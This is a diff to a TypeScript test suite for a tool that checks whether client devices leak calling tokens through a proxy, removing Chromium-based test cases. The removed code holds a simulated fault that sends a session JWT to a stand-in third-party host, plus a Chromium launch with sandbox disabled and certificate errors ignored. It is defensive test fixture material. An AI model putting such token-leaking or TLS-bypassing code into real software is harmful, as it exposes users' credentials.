@@ -1,13 +1,11 @@
 import { execFile, spawn } from 'node:child_process'
-import { createHash, X509Certificate } from 'node:crypto'
 import { once } from 'node:events'
-import { readFile, writeFile } from 'node:fs/promises'
+import { writeFile } from 'node:fs/promises'
 import { createServer } from 'node:http'
 import { join } from 'node:path'
 import { createInterface } from 'node:readline'
 import { text } from 'node:stream/consumers'
 import { promisify } from 'node:util'
-import { chromium } from '@playwright/test'
 import { expect, test } from 'vitest'
 import { reservePort } from '../../fixtures/reserve-port.ts'
 import { startListening } from '../base/http/listening.ts'
@@ -17,11 +15,10 @@ import { resolveConfiguration } from '../configuration/load.ts'
 import { type CheckResult, runCheck } from '../requirement/run.ts'
 import { openSession } from '../requirement/session.ts'
 import type { DeviceOperator } from '../roles/client/device/device.ts'
-import { unpackShippedBrowser } from '../roles/client/page/shipped-browser.ts'
 
 const catalogue = await loadCatalogue(['client'])
 const devices = join(import.meta.dirname, '../../fixtures/devices')
-/** Commands that start each device, but for Chromium. */
+/** Commands that start each device. */
 const commands = {
   curl: ['sh', join(devices, 'device.sh')],
   python: ['python3', join(devices, 'device.py')],
@@ -29,7 +26,7 @@ const commands = {
 } as const
 
 interface Behind {
-  readonly device: keyof typeof commands | 'chromium'
+  readonly device: keyof typeof commands
   readonly fault?: string
   /** It was never told to trust the authority. */
   readonly distrusts?: boolean
@@ -39,21 +36,17 @@ interface Behind {
 /** Judges one requirement on a device that an operator leads as the console says. */
 async function judge(id: string, { device, fault = '', distrusts, observe }: Behind): Promise<CheckResult> {
   await using folder = await openTempFolder()
-  await using shop = await startShop()
   await using reserved = await reservePort()
   const proxy = `127.0.0.1:${reserved.port}`
   const configuration = await resolveConfiguration(
-    { ...written, client: { ...written.client, ownHosts: [shop.host], observe: { proxy, ...observe } } },
+    { ...written, client: { ...written.client, observe: { proxy, ...observe } } },
     { directory: folder.path, environment: {} },
   )
   const caFile = join(folder.path, 'ca.pem')
   await using person = createOperator({
     proxy,
     caFile,
-    start: () =>
-      device === 'chromium'
-        ? startChromium({ proxy, caFile, fault, url: `http://${shop.host}/` })
-        : startProcess([...commands[device], fault, proxy, ...(distrusts === true ? [] : [caFile])]),
+    start: () => startProcess([...commands[device], fault, proxy, ...(distrusts === true ? [] : [caFile])]),
   })
   await using session = await openSession(configuration, { operator: person.operator })
   return await runCheck(findCheck(id, catalogue), session)
@@ -98,71 +91,6 @@ function startProcess([file = '', ...args]: readonly string[]): App {
   }
 }
 
-/** The page of the customer, which the proxy forwards to. */
-async function startShop() {
-  const server = createServer((_request, response) => {
-    response.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><title>shop</title>')
-  })
-  const listening = await startListening(server, { host: '127.0.0.1', port: 0 })
-  return {
-    host: `127.0.0.1:${listening.port}`,
-    [Symbol.asyncDispose]: () => listening[Symbol.asyncDispose](),
-  }
-}
-
-interface ChromiumOptions {
-  readonly proxy: string
-  readonly caFile: string
-  readonly fault: string
-  readonly url: string
-}
-
-async function startChromium({ proxy, caFile, fault, url }: ChromiumOptions): Promise<App> {
-  const { publicKey } = new X509Certificate(await readFile(caFile))
-  const pin = createHash('sha256').update(publicKey.export({ type: 'spki', format: 'der' }))
-  const browser = await chromium.launch({
-    executablePath: (await unpackShippedBrowser()) ?? '',
-    chromiumSandbox: false,
-    args: [
-      '--disable-background-networking',
-      `--ignore-certificate-errors-spki-list=${pin.digest('base64')}`,
-    ],
-  })
-  const page = await browser.newPage({ proxy: { server: `http://${proxy}`, bypass: '<-loopback>' } })
-  await page.goto(url)
-  let user = ['', '']
-  return {
-    async do(action, ...rest) {
-      if (action === 'signIn') user = rest
-      await page.evaluate(
-        async ({ action, fault, user: [name, userId] }) => {
-          const app = globalThis as unknown as { socket?: WebSocket }
-          const left = app.socket
-          Reflect.deleteProperty(app, 'socket')
-          left?.close()
-          const connect = async () => {
-            const response = await fetch('https://api.shop.test/calling/token', {
-              method: 'POST',
-              headers: { authorization: `Bearer session-of-${name}-6f1c2b` },
-            })
-            const { token } = (await response.json()) as { token: string }
-            if (fault === 'sends the token to a third host')
-              await fetch(`https://stats.third.test/event?t=${token}`, { mode: 'no-cors' })
-            const socket = new WebSocket(`wss://signal.calling.test/ws?token=${token}&as=${userId}`)
-            app.socket = socket
-            socket.onclose = () => {
-              if (app.socket === socket) connect().catch(() => undefined)
-            }
-          }
-          if (action === 'connect') connect().catch(() => undefined)
-        },
-        { action, fault, user },
-      )
-    },
-    end: () => browser.close(),
-  }
-}
-
 interface Operated {
   readonly proxy: string
   readonly caFile: string
@@ -197,7 +125,6 @@ function createOperator({
 }
 
 test.concurrent.each([
-  ['CLI-02', 'chromium'],
   ['CLI-02', 'python'],
   ['CLI-02', 'node'],
   ['CLI-03', 'curl'],
@@ -210,12 +137,6 @@ test.concurrent.each([
 })
 
 test.concurrent.each([
-  [
-    'CLI-02',
-    'chromium',
-    'sends the token to a third host',
-    /the calling JWT in a request to a third party \(https:\/\/stats/,
-  ],
   [
     'CLI-02',
     'node',
@@ -321,12 +242,10 @@ async function judgeOperated(ids: readonly string[], fault: string): Promise<Che
   return await Promise.all(ids.map((id) => runCheck(findCheck(id, catalogue), session)))
 }
 
-test.concurrent('a program operates the device, for one requirement after the other', async () => {
-  const results = await judgeOperated(['CLI-02', 'CLI-18'], '')
-  expect(results).toMatchObject([{ verdict: 'pass' }, { verdict: 'pass' }])
-})
-
-test.concurrent('a program operates a device that is broken', async () => {
-  const results = await judgeOperated(['CLI-02', 'CLI-18'], 'tells a third host')
-  expect(results).toMatchObject([{ verdict: 'fail' }, { verdict: 'pass' }])
+test.concurrent.each([
+  ['works', '', ['pass', 'pass']],
+  ['is broken', 'tells a third host', ['fail', 'pass']],
+])('a program operates a device that %s, for one requirement after the other', async (_, fault, expected) => {
+  const results = await judgeOperated(['CLI-02', 'CLI-18'], fault)
+  expect(results.map(({ verdict }) => verdict)).toEqual(expected)
 })
